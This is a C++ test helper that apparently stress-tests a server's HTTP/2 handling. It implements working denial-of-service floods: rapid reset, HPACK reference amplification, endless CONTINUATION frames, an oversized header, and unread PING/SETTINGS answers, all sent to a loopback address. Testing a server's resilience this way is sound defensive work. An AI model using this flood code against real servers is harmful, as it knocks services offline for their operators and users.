// SPDX-License-Identifier: Apache-2.0
#include "tests/testing/http2_flood.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <memory>
#include <utility>

namespace rigcal::testing {
namespace {

// Frame types and flags of RFC 9113, section 6.
constexpr char kHeaders = 1;
constexpr char kResetStream = 3;
constexpr char kSettings = 4;
constexpr char kPing = 6;
constexpr char kContinuation = 9;
constexpr char kEndStream = 1;
constexpr char kEndHeaders = 4;
constexpr size_t kLargestFrame = 16'384;
constexpr size_t kChunkBytes = size_t{64} << 10;

std::string BigEndian(uint32_t value, int bytes) {
  std::string text;
  for (int i = bytes - 1; i >= 0; --i) text += static_cast<char>(value >> (8 * i) & 0xff);
  return text;
}

std::string Frame(char type, char flags, uint32_t stream, const std::string& payload) {
  return BigEndian(static_cast<uint32_t>(payload.size()), 3) + type + flags + BigEndian(stream, 4) +
         payload;
}

// An integer of HPACK (RFC 7541, section 5.1) behind the bits of its first byte.
std::string HpackInteger(unsigned char first_bits, int prefix_bits, uint32_t value) {
  const uint32_t largest = (1u << prefix_bits) - 1;
  if (value < largest) return {static_cast<char>(first_bits | value)};
  std::string text(1, static_cast<char>(first_bits | largest));
  for (value -= largest; value >= 128; value >>= 7) {
    text += static_cast<char>(value % 128 + 128);
  }
  return text + static_cast<char>(value);
}

std::string HpackText(const std::string& text) {
  return HpackInteger(0, 7, static_cast<uint32_t>(text.size())) + text;
}

// Literal without indexing (RFC 7541, section 6.2.2), and with it (6.2.1).
std::string Literal(const std::string& name, const std::string& value) {
  return std::string(1, '\0') + HpackText(name) + HpackText(value);
}
std::string IndexedLiteral(const std::string& name, const std::string& value) {
  return std::string(1, '\x40') + HpackText(name) + HpackText(value);
}

// :method POST and :scheme http are entries 3 and 6 of the static table.
std::string CallHeaders(const std::string& path) {
  return std::string("\x83\x86") + Literal(":path", path) + Literal(":authority", "localhost") +
         Literal("content-type", "application/grpc") + Literal("te", "trailers");
}

struct SslFree {
  void operator()(SSL* ssl) const { SSL_free(ssl); }
  void operator()(SSL_CTX* context) const { SSL_CTX_free(context); }
  void operator()(BIO* bio) const { BIO_free(bio); }
  void operator()(X509* certificate) const { X509_free(certificate); }
  void operator()(EVP_PKEY* key) const { EVP_PKEY_free(key); }
};
template <typename T>
using Owned = std::unique_ptr<T, SslFree>;

}  // namespace

const char* Name(Http2Attack attack) {
  switch (attack) {
    case Http2Attack::kRapidReset:
      return "rapid reset";
    case Http2Attack::kHpackReferences:
      return "HPACK references";
    case Http2Attack::kEndlessContinuation:
      return "endless CONTINUATION";
    case Http2Attack::kEndlessHeader:
      return "endless header";
    case Http2Attack::kUnreadAnswers:
      return "unread answers";
  }
  return "";
}

class Http2Flood::Connection {
 public:
  Connection(const Options& options, std::atomic<uint64_t>* sent) : sent_(*sent) {
    descriptor_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<uint16_t>(options.port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    timeval limit{};
    limit.tv_usec = 500'000;
    setsockopt(descriptor_, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
    open_ = connect(descriptor_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0;
    if (open_ && options.certificate) open_ = StartTls(*options.certificate);
    if (open_) open_ = Send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(kSettings, 0, 0, ""));
  }
  ~Connection() {
    ssl_.reset();
    close(descriptor_);
  }
  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  bool open() const { return open_; }

  bool Send(const std::string& bytes) {
    for (size_t done = 0; done < bytes.size();) {
      const auto left = static_cast<int>(bytes.size() - done);
      const ssize_t count =
          ssl_ ? SSL_write(ssl_.get(), bytes.data() + done, left)
               : send(descriptor_, bytes.data() + done, static_cast<size_t>(left), MSG_NOSIGNAL);
      if (count <= 0) return open_ = false;
      done += static_cast<size_t>(count);
      sent_ += static_cast<uint64_t>(count);
    }
    return true;
  }

  // Throws away what the server has sent. False: it has closed the connection.
  bool Drain() {
    char bytes[4096];
    while (true) {
      const ssize_t count = recv(descriptor_, bytes, sizeof(bytes), MSG_DONTWAIT);
      if (count == 0) return open_ = false;
      if (count < 0) return open_ = errno == EAGAIN || errno == EINTR;
    }
  }

 private:
  bool StartTls(const TestCertificate& certificate) {
    context_.reset(SSL_CTX_new(TLS_client_method()));
    const Owned<BIO> certificate_bio(BIO_new_mem_buf(certificate.certificate_pem.data(), -1));
    const Owned<X509> x509(PEM_read_bio_X509(certificate_bio.get(), nullptr, nullptr, nullptr));
    const Owned<BIO> key_bio(BIO_new_mem_buf(certificate.key_pem.data(), -1));
    const Owned<EVP_PKEY> key(PEM_read_bio_PrivateKey(key_bio.get(), nullptr, nullptr, nullptr));
    SSL_CTX_use_certificate(context_.get(), x509.get());
    SSL_CTX_use_PrivateKey(context_.get(), key.get());
    ssl_.reset(SSL_new(context_.get()));
    static constexpr unsigned char kAlpn[] = {2, 'h', '2'};
    SSL_set_alpn_protos(ssl_.get(), kAlpn, sizeof(kAlpn));
    SSL_set_fd(ssl_.get(), descriptor_);
    return SSL_connect(ssl_.get()) == 1;
  }

  std::atomic<uint64_t>& sent_;
  int descriptor_ = -1;
  bool open_ = false;
  Owned<SSL_CTX> context_;
  Owned<SSL> ssl_;
};

Http2Flood::Http2Flood(Options options) : options_(std::move(options)) {
  signal(SIGPIPE, SIG_IGN);
  thread_ = std::thread([this] { Run(); });
}

Http2Flood::~Http2Flood() { Stop(); }

void Http2Flood::Stop() {
  stopping_ = true;
  if (thread_.joinable()) thread_.join();
}

void Http2Flood::Run() {
  while (!stopping_) {
    Connection connection(options_, &bytes_sent_);
    if (connection.open()) ++connections_;
    if (!connection.open() || !Attack(connection)) ++closed_;
    std::this_thread::sleep_for(options_.pause);
  }
}

bool Http2Flood::Attack(Connection& connection) {
  const std::string headers = CallHeaders(options_.path);
  uint32_t stream = 1;
  std::string chunk;
  const bool reads = options_.attack != Http2Attack::kUnreadAnswers;
  if (options_.attack == Http2Attack::kHpackReferences) {
    chunk = Frame(kHeaders, 0, stream, headers + IndexedLiteral("x-entry", std::string(3900, 'x')));
    if (!connection.Send(chunk)) return false;
  }
  if (options_.attack == Http2Attack::kEndlessContinuation ||
      options_.attack == Http2Attack::kEndlessHeader) {
    chunk = Frame(kHeaders, 0, stream, headers);
    if (options_.attack == Http2Attack::kEndlessHeader) {
      chunk += Frame(kContinuation, 0, stream,
                     std::string(1, '\0') + HpackText("x-long") + HpackInteger(0, 7, 256u << 20));
    }
    if (!connection.Send(chunk)) return false;
  }
  while (!stopping_) {
    chunk.clear();
    while (chunk.size() < kChunkBytes) {
      switch (options_.attack) {
        case Http2Attack::kRapidReset:
          chunk += Frame(kHeaders, kEndHeaders, stream, headers) +
                   Frame(kResetStream, 0, stream, BigEndian(8, 4));
          stream += 2;
          break;
        case Http2Attack::kHpackReferences:
          // The newest entry of the dynamic table is number 62.
          chunk += Frame(kContinuation, 0, stream, std::string(kLargestFrame, '\xbe'));
          break;
        case Http2Attack::kEndlessContinuation: {
          std::string block;
          while (block.size() < kLargestFrame - 64) block += Literal("x-more", "1");
          chunk += Frame(kContinuation, 0, stream, block);
          break;
        }
        case Http2Attack::kEndlessHeader:
          chunk += Frame(kContinuation, 0, stream, std::string(kLargestFrame, 'x'));
          break;
        case Http2Attack::kUnreadAnswers:
          chunk += Frame(kPing, 0, 0, std::string(8, 'x')) + Frame(kSettings, 0, 0, "");
          break;
      }
    }
    if (!connection.Send(chunk) || (reads && !connection.Drain())) return false;
    if (stream > 0x7fff'0000u) return true;
  }
  return true;
}

}  // namespace rigcal::testing
